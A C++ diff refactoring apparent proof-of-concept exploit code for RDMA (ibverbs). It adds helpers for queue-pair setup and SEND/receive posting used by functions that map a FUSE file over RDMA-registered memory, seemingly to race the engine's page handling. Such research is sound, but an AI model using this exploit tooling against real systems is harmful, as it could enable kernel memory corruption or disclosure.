@@ -234,6 +234,34 @@ int receive_file(int channel) {
     return m.fd;
 }
 
+// Two RC QPs of `side`, connected to each other.
+void connected_pair(const attack::Side& side, ibv_qp*& a, ibv_qp*& b) {
+    a = attack::make_qp(side);
+    b = attack::make_qp(side);
+    attack::connect_qp(a, b->qp_num, side.gid);
+    attack::connect_qp(b, a->qp_num, side.gid);
+}
+
+// A receive into `target` on `receiver` (wr_id 1), then a signaled SEND of `source` from
+// `sender` (wr_id 2).
+void post_send_into(ibv_qp* receiver, ibv_sge target, ibv_qp* sender, ibv_sge source) {
+    ibv_recv_wr receive{};
+    ibv_recv_wr* bad_receive = nullptr;
+    receive.wr_id = 1;
+    receive.sg_list = &target;
+    receive.num_sge = 1;
+    ibv_send_wr send{};
+    ibv_send_wr* bad_send = nullptr;
+    send.wr_id = 2;
+    send.sg_list = &source;
+    send.num_sge = 1;
+    send.opcode = IBV_WR_SEND;
+    send.send_flags = IBV_SEND_SIGNALED;
+    if (ibv_post_recv(receiver, &receive, &bad_receive) != 0 ||
+        ibv_post_send(sender, &send, &bad_send) != 0)
+        attack::die("post a receive and a SEND");
+}
+
 // An RDMA WRITE from `source` over a QP connected to another of the same context: the
 // engine reads the source's pages to send them.
 void write_from(const attack::Side& side, ibv_mr* source) {
@@ -243,10 +271,9 @@ void write_from(const attack::Side& side, ibv_mr* source) {
                                 IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE);
     if (!target)
         attack::die("register the target");
-    ibv_qp* a = attack::make_qp(side);
-    ibv_qp* b = attack::make_qp(side);
-    attack::connect_qp(a, b->qp_num, side.gid);
-    attack::connect_qp(b, a->qp_num, side.gid);
+    ibv_qp* a = nullptr;
+    ibv_qp* b = nullptr;
+    connected_pair(side, a, b);
     ibv_sge sge{reinterpret_cast<uint64_t>(source->addr), static_cast<uint32_t>(kFileSize),
                 source->lkey};
     ibv_send_wr wr{};
@@ -282,31 +309,12 @@ void swap_and_receive(const attack::Side& side, int file) {
     if (::mmap(target, kFileSize, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_FIXED, file, 0) !=
         target)
         attack::die("map the FUSE file over the registered memory");
-    ibv_qp* receiver = attack::make_qp(side);
-    ibv_qp* sender = attack::make_qp(side);
-    attack::connect_qp(receiver, sender->qp_num, side.gid);
-    attack::connect_qp(sender, receiver->qp_num, side.gid);
-    ibv_sge target_sge{reinterpret_cast<uint64_t>(target), static_cast<uint32_t>(kFileSize),
-                       target_mr->lkey};
-    ibv_recv_wr receive{};
-    ibv_recv_wr* bad_receive = nullptr;
-    receive.wr_id = 1;
-    receive.sg_list = &target_sge;
-    receive.num_sge = 1;
-    if (ibv_post_recv(receiver, &receive, &bad_receive) != 0)
-        attack::die("post the receive");
-    ibv_sge source_sge{reinterpret_cast<uint64_t>(source), static_cast<uint32_t>(kFileSize),
-                       source_mr->lkey};
-    ibv_send_wr send{};
-    ibv_send_wr* bad_send = nullptr;
-    send.wr_id = 2;
-    send.sg_list = &source_sge;
-    send.num_sge = 1;
-    send.opcode = IBV_WR_SEND;
-    send.send_flags = IBV_SEND_SIGNALED;
+    ibv_qp* receiver = nullptr;
+    ibv_qp* sender = nullptr;
+    connected_pair(side, receiver, sender);
     const auto posted = std::chrono::steady_clock::now();
-    if (ibv_post_send(sender, &send, &bad_send) != 0)
-        attack::die("post the SEND");
+    post_send_into(receiver, {reinterpret_cast<uint64_t>(target), kFileSize, target_mr->lkey},
+                   sender, {reinterpret_cast<uint64_t>(source), kFileSize, source_mr->lkey});
     std::printf("swapped: posted\n");
     std::fflush(stdout);
     while (std::chrono::steady_clock::now() - posted < std::chrono::seconds(20)) {
@@ -333,20 +341,8 @@ void swap_and_receive(const attack::Side& side, int file) {
 // One 8-byte SEND from `sender` into `receiver`'s posted receive, and its two completions
 // taken from `cq` (at most 5 s).
 void exchange(ibv_qp* receiver, ibv_qp* sender, ibv_mr* mr, ibv_cq* cq) {
-    ibv_sge sge{reinterpret_cast<uint64_t>(mr->addr), 8, mr->lkey};
-    ibv_recv_wr receive{};
-    ibv_recv_wr* bad_receive = nullptr;
-    receive.sg_list = &sge;
-    receive.num_sge = 1;
-    ibv_send_wr send{};
-    ibv_send_wr* bad_send = nullptr;
-    send.sg_list = &sge;
-    send.num_sge = 1;
-    send.opcode = IBV_WR_SEND;
-    send.send_flags = IBV_SEND_SIGNALED;
-    if (ibv_post_recv(receiver, &receive, &bad_receive) != 0 ||
-        ibv_post_send(sender, &send, &bad_send) != 0)
-        attack::die("post an exchange");
+    const ibv_sge sge{reinterpret_cast<uint64_t>(mr->addr), 8, mr->lkey};
+    post_send_into(receiver, sge, sender, sge);
     const auto posted = std::chrono::steady_clock::now();
     for (int done = 0; done < 2;) {
         ibv_wc wc{};
@@ -377,10 +373,9 @@ void hold_channel(const attack::Side& side, int file) {
     ibv_mr* mr = ibv_reg_mr(side.pd, memory, 4096, IBV_ACCESS_LOCAL_WRITE);
     if (!mr)
         attack::die("register the exchange buffer");
-    ibv_qp* receiver = attack::make_qp(own);
-    ibv_qp* sender = attack::make_qp(own);
-    attack::connect_qp(receiver, sender->qp_num, side.gid);
-    attack::connect_qp(sender, receiver->qp_num, side.gid);
+    ibv_qp* receiver = nullptr;
+    ibv_qp* sender = nullptr;
+    connected_pair(own, receiver, sender);
     if (ibv_req_notify_cq(own.cq, 0) != 0)
         attack::die("ibv_req_notify_cq");
     exchange(receiver, sender, mr, own.cq);
